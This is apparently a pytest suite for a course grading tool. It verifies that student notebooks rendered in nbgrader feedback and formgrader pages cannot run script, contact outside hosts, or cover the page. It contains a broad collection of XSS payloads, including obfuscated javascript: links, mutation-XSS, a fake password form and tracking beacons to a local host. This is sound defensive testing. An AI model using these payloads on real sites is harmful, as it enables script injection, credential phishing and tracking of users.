"""Feedback and formgrader show what a student has done, and nothing of it runs, asks the network or covers the page."""

import base64
import json
import shutil
from pathlib import Path
from typing import NamedTuple

import nbgrader
import pytest
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from nbgrader.api import Gradebook
from nbgrader.apps import NbGraderAPI
from nbgrader.server_extensions.formgrader.formgrader import FormgradeExtension

from course_utils.grading import feedback
from course_utils.grading.course import Course
from course_utils.grading.engine import grade
from course_utils.grading.feedback import Harmless, harmless, render_markdown
from tests.conftest import missing
from tests.grading.classroom import NAME, RIGHT, answered, hand_in, make_course
from tests.grading.conftest import SHORT

pytestmark = pytest.mark.slow

TRACKER = "http://127.0.0.1:8999/seen"
HERE = "http://127.0.0.1:8998"
STATIC = Path(nbgrader.__file__).parent / "server_extensions/formgrader/static"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
COMMENT = "Well argued, but short."


def js(name):
    """What an attack does once it runs: leave a mark on the page, and call home."""
    return f"try{{(top.hacked=top.hacked||[]).push('{name}')}}catch(e){{}}new Image().src='{TRACKER}/{name}';void 0"


HTML = {
    "script": f"<script>{js('script')}</script>",
    "onerror": f'<img src="data:," onerror="{js("onerror")}">',
    "onmouseover": f'<p onmouseover="{js("onmouseover")}">x</p>',
    "ontoggle": f'<details open ontoggle="{js("ontoggle")}">x</details>',
    "svg": f'<svg onload="{js("svg")}"></svg>',
    "link": f'<a href="javascript:{js("link")}">x</a>',
    "entity": f'<a href="java&#115;cript:{js("entity")}">x</a>',
    "tab": f'<a href="java\tscript:{js("tab")}">x</a>',
    "srcdoc": f'<iframe srcdoc="<script>{js("srcdoc")}</script>"></iframe>',
    "iframe": f'<iframe src="{TRACKER}/iframe"></iframe>',
    "object": f'<object data="{TRACKER}/object"></object>',
    "embed": f'<embed src="{TRACKER}/embed">',
    "pixel": f'<img src="{TRACKER}/pixel">',
    "srcset": f'<img srcset="{TRACKER}/srcset 1x">',
    "own": '<img src="/own/pixel.png"><a href="evil.html">x</a>',
    "poster": f'<video poster="{TRACKER}/poster"></video>',
    "audio": f'<audio autoplay src="{TRACKER}/audio"></audio>',
    "sheet": f'<link rel="stylesheet" href="{TRACKER}/sheet">',
    "import": f'<style>@import "{TRACKER}/import"; .panel-heading {{display: none}}</style>',
    "background": f'<p style="background: url({TRACKER}/background)">x</p>',
    "cover": '<div style="position: fixed; inset: 0; background: white; z-index: 9999">All points</div>',
    "refresh": f'<meta http-equiv="refresh" content="0; url={TRACKER}/refresh">',
    "form": f'<form action="{TRACKER}/form"><input name="password"><button>Log in again</button></form>',
    "base": f'<base href="{TRACKER}/">',
    "tooltip": f"""<a data-toggle="collapse" data-target='<img src="data:," onerror="{js("tooltip")}">'>x</a>""",
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=data:, '
    f'onerror={js("mutation")}&gt;">',
    "noscript": f'<noscript><p title="</noscript><img src=data:, onerror={js("noscript")}>">',
}
MARKDOWN = {
    "md-link": f"[x](javascript:{js('md-link').replace(' ', '%20').replace('(', '%28').replace(')', '%29')})",
    "md-auto": f"<javascript:{js('md-auto').replace(' ', '%20')}>",
    "md-pixel": f"![x]({TRACKER}/md-pixel)",
    "md-quote": f"""![x]({TRACKER}/md-quote" onerror="{js("md-quote")})""",
    "md-math": f"$\\href{{javascript:{js('md-math')}}}{{x}}$ and $</p><script>{js('md-math')}</script>$",
    "md-code": f"```html\n<script>{js('md-code')}</script>\n```",
    "md-fence": f"```mermaid\n</pre><script>{js('md-fence')}</script>\n```",
}
TABLE = """<div><style scoped>.dataframe tbody tr th {vertical-align: top}</style>
<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>momentum</th></tr></thead>
<tbody><tr><th>0</th><td>1.25</td></tr></tbody></table></div>"""  # as pandas makes it
BUNDLES = [
    {"text/html": TABLE},
    *({"text/html": html, "text/plain": "twin"} for html in HTML.values()),
    *({"text/markdown": text} for text in MARKDOWN.values()),
    {"application/javascript": js("javascript")},
    {"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg"><script>{js("svg-out")}</script></svg>'},
    {"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{TRACKER}/svg-image"/></svg>'},
    {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/plain": "Slider(value=3)"},
    {"application/vnd.custom+json": {"x": 1}},
    {"text/latex": f"</div><script>{js('latex')}</script>"},
    {"text/plain": f"<script>{js('plain')}</script>"},
    {"image/png": f'" onerror="{js("png")}'},
    {"image/jpeg": "AAAA"},
    {"text/html": 5, "text/plain": ["a list"], "image/png": {}},
]
DISPLAYS = f"""import json
from IPython.display import display
import matplotlib.pyplot as plt
_ = plt.plot([1, 2])
plt.show()
for bundle in json.loads({json.dumps(BUNDLES)!r}):
    display(bundle, raw=True)
"""
LOUD = f"""print("\\x1b[31m<script>{js("stream").replace(chr(39), chr(92) + chr(39))}</script>")
raise ValueError("\\x1b[31m<script>{js("error").replace(chr(39), chr(92) + chr(39))}</script>")
"""
ESSAY = "\n\n".join([*HTML.values(), *MARKDOWN.values()])
NOSY = """import sys

def double(x):
    frame = sys._getframe()
    while "raw_cell" not in frame.f_locals:
        frame = frame.f_back
    test = frame.f_locals["raw_cell"]
    print(test)
    print(repr([test]))
    display({"text/html": test}, raw=True)
    raise ValueError(test)
"""
HIDDEN = ("double(21)", "name='hidden'", "answer == 'B', 'not that one'")


class Seen(NamedTuple):
    """What a browser made of a page."""

    ran: set[str]
    asked: list[str]
    headings: list[bool]  #: of each heading with points, whether it is on top
    text: str


def attack(root, student):
    """Hand in everything that is harmful, with one right and one wrong answer."""
    nb = answered(root, **RIGHT | {"answer": DISPLAYS + "answer = 'A'", "essay": ESSAY})
    attached = new_markdown_cell("![x](attachment:x.png)")
    attached.attachments = {
        "x.png": {"image/png": f'" onerror="{js("attachment")}'},
        "y.svg": {"image/svg+xml": base64.b64encode(b"<svg/>").decode()},
        "number": {"image/png": 5},
    }
    for cell in nb.cells:
        cell.metadata["tags"] = [f'"><script>{js("tag")}</script>']
    nb.cells += [attached, new_markdown_cell(ESSAY), new_code_cell(LOUD)]
    nb.cells[-1].metadata["magics_language"] = f'"><script>{js("magics")}</script>'
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {}}
    nb.metadata["title"] = f"</title><script>{js('title')}</script>"
    hand_in(root, student, nb)


def mark(root, student):
    """What the marker says."""
    with Gradebook(f"sqlite:///{root}/gradebook.db") as book:
        book.find_grade("essay", NAME, NAME, student).manual_score = 0.5
        book.find_comment("essay", NAME, NAME, student).manual_comment = COMMENT
        book.db.commit()


@pytest.fixture(scope="module")
def root(tmp_path_factory):
    """A course with two submissions full of attacks, graded in the two ways there are, and one nosy one."""
    if shutil.which("bwrap") is None:
        missing("bubblewrap", "apt install bubblewrap")
    root = make_course(tmp_path_factory.mktemp("course"))
    for student in ("engine", "nbgrader"):
        attack(root, student)
        hand_in(root, f"{student}-nosy", answered(root, **RIGHT | {"double": NOSY, "answer": "answer = 'A'"}))
    for student in ("nbgrader", "nbgrader-nosy"):
        result = NbGraderAPI(config=Course(root).config).autograde(NAME, student)
        assert result["success"], result["log"]
        shutil.move(root / "submitted" / student, root / "kept" / student)
    results = {result.student: result for result in grade(NAME, Course(root), workers=1, limits=SHORT)}
    assert results["engine"].points == 2, results
    for student in ("engine", "nbgrader"):
        mark(root, student)
    return root


def feedback_page(root, student, config):
    result = NbGraderAPI(config=config).generate_feedback(NAME, student, force=True)
    assert result["success"], result["log"]
    return (root / "feedback" / student / NAME / f"{NAME}.html").read_text()


def formgrader_page(root, student, monkeypatch, *, protected=True):
    """As formgrader's SubmissionHandler makes it."""
    monkeypatch.chdir(root)
    extension = FormgradeExtension()
    extension.initialize([])
    if not protected:
        for name in ("preprocessors", "filters"):
            del extension.config.HTMLExporter[name]
    resources = {"assignment_id": NAME, "notebook_id": NAME, "submission_id": "1", "base_url": "", "index": 0}
    path = root / "autograded" / student / NAME / f"{NAME}.ipynb"
    return HTMLExporter(config=extension.config).from_filename(str(path), resources=resources | {"total": 1})[0]


def look(browser, html):
    """Open a page, point at everything in it and follow every link that is a script."""
    page = browser.new_page()
    asked = []

    def answer(route):
        url = route.request.url
        asked.append(url)
        static = STATIC / url.removeprefix(f"{HERE}/formgrader/static/")
        if url.startswith(TRACKER):
            route.fulfill(status=204)  # so that a page which goes there stays
        elif url == f"{HERE}/page":
            route.fulfill(body=html, content_type="text/html")
        elif url.startswith(f"{HERE}/formgrader/static/") and static.is_file():
            route.fulfill(path=static)
        else:
            route.fulfill(body="[]", content_type="application/json")

    page.route("**/*", answer)
    page.goto(f"{HERE}/page", wait_until="load")
    page.evaluate(
        """() => { for (const it of document.querySelectorAll("#notebook *")) {
            for (const kind of ["mouseover", "focus", "error", "load", "toggle"]) it.dispatchEvent(new Event(kind));
            if (it.protocol === "javascript:" || it.dataset.toggle) it.click();
        } }"""
    )
    page.wait_for_timeout(1000)
    ran = set(page.evaluate("() => window.hacked || []"))
    headings = page.evaluate(
        """() => [...document.querySelectorAll(".nbgrader_cell > .panel-heading")].map(it => {
            it.scrollIntoView({block: "center"});
            const box = it.getBoundingClientRect();
            const top = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
            return it === top || it.contains(top);
        })"""
    )
    text = page.inner_text("body")
    page.close()
    return Seen(ran, [url for url in asked if url != f"{HERE}/page"], headings, text)


@pytest.mark.parametrize("student", ["engine", "nbgrader"])
def test_nothing_of_a_students_runs_in_the_feedback(root, browser, student):
    html = feedback_page(root, student, Course(root).config)
    seen = look(browser, html)
    assert seen.ran == set()
    assert seen.asked == []
    assert all(seen.headings)
    assert len(seen.headings) >= 5
    assert "not that one" in seen.text  # the message of the hidden test
    assert not any(line in html for line in HIDDEN)
    assert COMMENT in seen.text
    assert "Written response (Score: 0.5 / 1.0)" in seen.text
    assert "(Score: 2.5 / 4.0)" in seen.text
    assert "momentum\n0\t1.25" in seen.text
    assert "Slider(value=3)" in seen.text
    assert "data:image/png;base64,iVBOR" in html  # the plot
    assert len(html) < 1_000_000


@pytest.mark.parametrize("student", ["engine", "nbgrader"])
def test_nothing_of_a_students_runs_in_formgrader(root, browser, student, monkeypatch):
    html = formgrader_page(root, student, monkeypatch)
    seen = look(browser, html)
    assert seen.ran == set()
    theirs = (f"{HERE}/formgrader/", "https://cdnjs.cloudflare.com/ajax/libs/mathjax/")
    assert [url for url in seen.asked if not url.startswith(theirs)] == []
    assert all(seen.headings)
    assert "name='hidden'" in seen.text  # the instructor sees the whole test


@pytest.mark.filterwarnings("ignore:Your element with mimetype")
def test_the_attacks_are_real(root, browser, monkeypatch, record_property):
    config = Course(root).config
    del config["HTMLExporter"]
    bare = {
        "feedback": feedback_page(root, "engine", config),
        "formgrader": formgrader_page(root, "engine", monkeypatch, protected=False),
    }
    for name, html in bare.items():
        seen = look(browser, html)
        called = {url.removeprefix(f"{TRACKER}/") for url in seen.asked if url.startswith(TRACKER)}
        record_property(f"attacks that run in {name} without protection", len(seen.ran))
        record_property(f"attacks that succeed in {name} without protection", len(seen.ran | called))
        assert len(seen.ran) >= 12, sorted(seen.ran)
        assert len(seen.ran | called) >= 25, sorted(seen.ran | called)


@pytest.mark.parametrize("student", ["engine-nosy", "nbgrader-nosy"])
def test_what_code_prints_of_a_hidden_test_is_taken_out(root, student, monkeypatch):
    html = feedback_page(root, student, Course(root).config)
    assert html.count("[hidden test]") >= 4
    assert not any(line in html for line in HIDDEN)
    assert "not that one" in html
    assert "check_close(double(21), 42" in formgrader_page(root, student, monkeypatch)


def shown(*cells):
    """The cells as they go into a page."""
    nb, _ = Harmless().preprocess(new_notebook(cells=list(cells)), {})
    return nb.cells


def test_long_output_is_cut_and_says_so():
    cell = new_code_cell("x = 1\n" * 10_000)
    cell.outputs = [
        new_output("stream", text="y" * 50_000),
        new_output("error", ename="E", evalue="", traceback=["z" * 50_000, "what went wrong"]),
        new_output("display_data", {"text/html": "<td>" * 50_000}),
        *(new_output("stream", text="more") for _ in range(100)),
    ]
    [seen] = shown(cell)
    assert "cut: 40,000 more characters" in seen.source
    assert seen.outputs[0].text.endswith("cut: 30,000 more characters are not shown")
    assert seen.outputs[1].traceback[0].endswith("what went wrong")
    assert "cut: 160,000 more" in seen.outputs[2].data["text/html"]
    assert "53 more outputs are not shown" in seen.outputs[-2].text


def test_a_large_image_is_a_line_of_text():
    big = base64.b64encode(base64.b64decode(PIXEL) + bytes(2_000_000)).decode()
    cell = new_code_cell(outputs=[new_output("display_data", {"image/png": big, "text/plain": "<Figure>"})])
    assert shown(cell)[0].outputs[0].data == {"text/plain": "[image/png, 2.7 MB: too large to be shown here]"}


def test_an_attached_image_is_shown():
    cell = new_markdown_cell("![](attachment:a.png)", attachments={"a.png": {"image/png": PIXEL, "text/html": "x"}})
    assert shown(cell)[0].attachments == {"a.png": {"image/png": PIXEL}}


def test_a_page_stays_small_and_a_test_is_still_heard():
    noisy = [
        new_code_cell("x = 1\n" * 3000, outputs=[new_output("stream", text="y\n" * 10_000) for _ in range(20)])
        for _ in range(30)
    ]
    picture = base64.b64encode(base64.b64decode(PIXEL) + bytes(600_000)).decode()
    drawn = new_code_cell(outputs=[new_output("display_data", {"image/png": picture}) for _ in range(40)])
    test = new_code_cell(outputs=[new_output("error", ename="E", evalue="", traceback=["expected 2"])])
    test.metadata["nbgrader"] = {"grade": True, "solution": False}
    nb = new_notebook(cells=[*noisy, drawn, test])
    exporter = HTMLExporter(preprocessors=[Harmless], filters={"markdown2html": render_markdown})
    html, _ = exporter.from_notebook_node(nb)
    assert len(html) < 5_000_000
    assert "expected 2" in html


def test_honest_html_and_markdown_stay_readable():
    table = harmless(TABLE)
    assert "<th>momentum</th>" in table
    assert "vertical-align" not in table
    assert '<tr style="text-align: right;">' in table
    assert '<table border="1">' in table
    text = "# Title\n\n> quoted & `a < b`\n\n[link](https://example.org) ![](attachment:a.png)\n\n$a < b$"
    html = render_markdown({"cell": {"attachments": {"a.png": {"image/png": PIXEL}}}}, text)
    for part in (
        "<h1>Title</h1>",
        "<blockquote>",
        "<code>a &lt; b</code>",
        'href="https://example.org"',
        f'src="data:image/png;base64,{PIXEL}"',
        "$a &lt; b$",
    ):
        assert part in html


def test_a_missing_attachment_does_not_stop_the_page():
    html = render_markdown({"cell": {}}, "![](attachment:plot.png) <b>x</b>")
    assert "missing attachment: plot.png" in html
    assert "&lt;b&gt;" in html


def test_the_word_of_nbgrader_for_hidden_tests_in_an_answer_is_no_error():
    answer = new_code_cell("### BEGIN HIDDEN TESTS")
    nb, _ = feedback.HideTests().preprocess(new_notebook(cells=[answer]), {})
    assert nb.cells[0].source == "### BEGIN HIDDEN TESTS"
